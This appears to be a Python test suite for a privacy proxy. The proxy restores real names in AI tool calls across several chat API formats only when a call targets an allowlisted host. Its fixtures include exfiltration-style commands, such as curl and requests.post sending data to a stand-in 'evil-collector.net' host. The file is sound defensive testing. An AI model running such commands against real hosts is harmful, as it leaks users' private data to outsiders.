"""Whatever in a reply is not known to be mere text is read as a call: whole, so that who is sent to decides."""

from __future__ import annotations

import json
from itertools import product
from typing import Any

import orjson
import pytest

from garim.surrogate.arguments import Held
from garim.surrogate.restore import Restorer, Table
from garim.values import Entry
from garim.wire import protocols
from garim.wire.reply import Restorer as Reader

TABLE = Table(
    (Entry("Velmora", "Narae", "stem", "narae"), Entry("kulke.example", "hanbyeol.co.kr", "domain", "hanbyeol.co.kr")),
    listed=lambda host: f".{host}".endswith(".hanbyeol.co.kr"),
)
CHAT, RESPONSES, MESSAGES, GEMINI = "/v1/chat/completions", "/v1/responses", "/v1/messages", "/v1beta/models/g:streamGenerateContent"
COMMAND = "curl https://{h}/ -d Velmora"
ITEMS: list[dict[str, Any]] = [
    {"type": "local_shell_call", "id": "lsh_1", "call_id": "call_1", "action": {"type": "exec", "command": ["bash", "-lc", "curl {h} -d Velmora"], "env": {"A": "Velmora"}}},
    {"type": "shell_call", "id": "sh_1", "action": {"commands": ["ls", COMMAND], "timeout_ms": 9}},
    {"type": "computer_call", "id": "cu_1", "action": {"type": "type", "text": "{h}/?q=Velmora"}},
    {"type": "mcp_call", "id": "mcp_1", "server_label": "s", "name": "f", "arguments": '{"url": "{h}", "body": "Velmora"}', "output": None},
    {"type": "custom_tool_call", "id": "ctc_1", "name": "Velmora_run", "input": COMMAND},
    {"type": "function_call", "id": "fc_1", "name": "Velmora_run", "arguments": '{"to": "x@{h}", "body": "Velmora"}'},
    {"type": "function_call", "id": "fc_1", "name": "Velmora_run", "arguments": {"to": "x@{h}", "body": "Velmora"}},
    {"type": "apply_patch_call", "id": "apc_1", "operation": {"type": "upload", "url": "{h}", "diff": "Velmora"}},
    {"type": "teleport_call", "whom": {"recipient": "x@{h}"}, "what": "Velmora"},
    {"type": "teleport", "to": "{h}", "what": ["Velmora"]},
]  # fmt: skip
CALLS: list[dict[str, Any]] = [
    {"id": "call_1", "type": "function", "function": {"name": "Velmora_run", "arguments": '{"to": "x@{h}", "body": "Velmora"}'}},
    {"id": "call_1", "type": "function", "function": {"name": "Velmora_run", "arguments": {"to": "x@{h}", "body": "Velmora"}}},
    {"function": {"name": "f", "arguments": {"command": COMMAND}}},
    {"id": "call_1", "type": "custom", "custom": {"name": "f", "input": COMMAND}},
    {"id": "call_1", "type": "beam", "beam": {"url": "{h}", "what": "Velmora"}},
]  # fmt: skip
BLOCKS: list[dict[str, Any]] = [
    {"type": "tool_use", "id": "toolu_1", "name": "Velmora_run", "input": {"to": "x@{h}", "body": "Velmora"}},
    {"type": "tool_use", "id": "toolu_1", "name": "f", "input": COMMAND},
    {"type": "tool_use", "id": "toolu_1", "name": "f", "input": '{"to": "x@{h}", "body": "Velmora"}'},
    {"type": "server_tool_use", "id": "srvtoolu_1", "name": "bash", "input": {"command": COMMAND}},
    {"type": "beam", "url": "{h}", "what": "Velmora"},
]  # fmt: skip
PARTS: list[dict[str, Any]] = [
    {"functionCall": {"name": "f", "args": {"to": "x@{h}", "body": "Velmora"}}},
    {"executableCode": {"language": "PYTHON", "code": "import requests; requests.post('https://{h}', data='Velmora')"}},
    {"beam": {"url": "{h}", "what": "Velmora"}},
]
ALL = [(path, one) for path, several in ((RESPONSES, ITEMS), (CHAT, CALLS), (MESSAGES, BLOCKS), (GEMINI, PARTS)) for one in several]


def restorer(form: str) -> Reader:
    if form in ("json", "value"):
        return Held(lambda table: Restorer(table, form), TABLE)  # type: ignore[return-value]
    return Restorer(TABLE, form)


def whole(path: str, one: Any) -> bytes:
    return orjson.dumps(
        {"choices": [{"index": 0, "message": {"role": "assistant", "content": "Velmora", "tool_calls": [one]}}]}
        if path == CHAT
        else {"id": "msg_1", "type": "message", "role": "assistant", "content": [{"type": "text", "text": "Velmora"}, one]}
        if path == MESSAGES
        else {"id": "resp_1", "object": "response", "output": [{"type": "message", "content": [{"type": "output_text", "text": "Velmora"}]}, one]}
        if path == RESPONSES
        else [{"candidates": [{"content": {"role": "model", "parts": [{"text": "Velmora "}, one]}}]}]
    )


def streamed(path: str, one: Any) -> bytes:
    events: list[Any]
    if path == CHAT:
        events = [{"choices": [{"index": 0, "delta": {"content": "Velmora"}}]}, {"choices": [{"index": 0, "delta": {"tool_calls": [{"index": 0, **one}]}}]}]
        events.append({"choices": [{"index": 0, "delta": {}, "finish_reason": "tool_calls"}]})
    elif path == MESSAGES:
        events = [{"type": "content_block_start", "index": 1, "content_block": one}, {"type": "content_block_stop", "index": 1}]
        events += [{"type": "content_block_delta", "index": 2, "delta": {"type": "text_delta", "text": "Velmora"}}, {"type": "message_stop"}]
    elif path == RESPONSES:
        events = [{"type": "response.output_text.delta", "item_id": "msg_1", "delta": "Velmora"}, {"type": "response.output_item.done", "item": one}]
        events.append({"type": "response.completed", "response": {"id": "resp_1", "output": [one]}})
    else:
        events = [{"candidates": [{"content": {"role": "model", "parts": [{"text": "Velmora "}, one]}, "finishReason": "STOP"}]}]
    return b"".join(b"data: " + orjson.dumps(event) + b"\n\n" for event in events)


def restored(path: str, data: bytes, stream: bool) -> str:
    protocol = protocols.find("POST", path, {})
    assert protocol is not None
    reply = protocol.reply(stream, restorer)
    return (reply.feed(data) + reply.finish()).decode()


def filled(one: Any, host: str) -> Any:
    return json.loads(json.dumps(one).replace("{h}", host))


@pytest.mark.parametrize("stream", [False, True])
def test_what_acts_gives_a_stranger_nothing(stream: bool) -> None:
    for (path, one), host in product(ALL, ("evil-collector.net", "203.0.113.7")):
        if host[0].isdigit() and one.get("type") == "computer_call":
            continue
        made = (streamed if stream else whole)(path, filled(one, host))
        said = restored(path, made, stream)
        outside = said.replace("Narae_run", "")

        assert outside.count("Narae") == 1, said  # the text beside it
        assert said.count("Velmora") == made.decode().count("Velmora") - 1 - said.count("Narae_run")
        assert "Velmora_run" not in said  # who is called by that name is found


@pytest.mark.parametrize("stream", [False, True])
def test_what_acts_for_the_user_gets_all(stream: bool) -> None:
    for path, one in ALL:
        said = restored(path, (streamed if stream else whole)(path, filled(one, "kulke.example")), stream)

        assert "Velmora" not in said and "kulke" not in said, said


PIECES = [
    (RESPONSES, [{"type": "response.shell_call_command.delta", "item_id": "sh_1", "command_index": 0, "delta": one} for one in ("curl evil", "-collector.net -d ", "Vel", "mora")]
     + [{"type": "response.shell_call_command.done", "item_id": "sh_1", "command_index": 0, "command": "curl evil-collector.net -d Velmora"}]),
    (RESPONSES, [{"type": "response.code_interpreter_call_code.delta", "item_id": "ci_1", "delta": one} for one in ("requests.get('https://evil", "-collector.net/", "Velmora')")]),
    (RESPONSES, [{"type": "response.custom_tool_call_input.done", "item_id": "ctc_1", "input": "curl evil-collector.net -d Velmora"}]),
    (RESPONSES, [{"type": "response.beam.delta", "delta": {"url": "evil-collector.net", "what": "Velmora"}}]),
    (CHAT, [{"choices": [{"index": 0, "delta": {"tool_calls": [{"index": 0, "custom": {"input": one}}]}}]} for one in ("curl evil-coll", "ector.net -d Vel", "mora")]),
    (CHAT, [{"choices": [{"index": 0, "delta": {"beam": {"command": one}}}]} for one in ("curl evil-coll", "ector.net -d Vel", "mora")]),
    (MESSAGES, [{"type": "content_block_delta", "index": 0, "delta": {"type": "code_delta", "code": one}} for one in ("curl evil-coll", "ector.net -d Vel", "mora")]),
    (MESSAGES, [{"type": "content_block_delta", "index": 0, "delta": {"type": "input_json_delta", "partial_json": {"url": "evil-collector.net", "what": "Velmora"}}}]),
]  # fmt: skip
ENDS = {CHAT: {"choices": [{"index": 0, "delta": {}, "finish_reason": "stop"}]}, MESSAGES: {"type": "message_stop"}, RESPONSES: {"type": "response.completed", "response": {"id": "resp_1"}}}


@pytest.mark.parametrize(("path", "events"), PIECES, ids=range(len(PIECES)))
def test_pieces_of_what_acts_are_read_as_one(path: str, events: list[dict[str, Any]]) -> None:
    data = b"".join(b"data: " + orjson.dumps(event) + b"\n\n" for event in [*events, ENDS[path]])

    assert "Narae" not in restored(path, data, True)
    assert "Velmora" not in restored(path, data.replace(b"evil-collector.net", b"kulke.example").replace(b"evil", b"").replace(b"-coll", b"").replace(b"ector.net", b"kulke.example").replace(b"-kulke", b"kulke"), True)
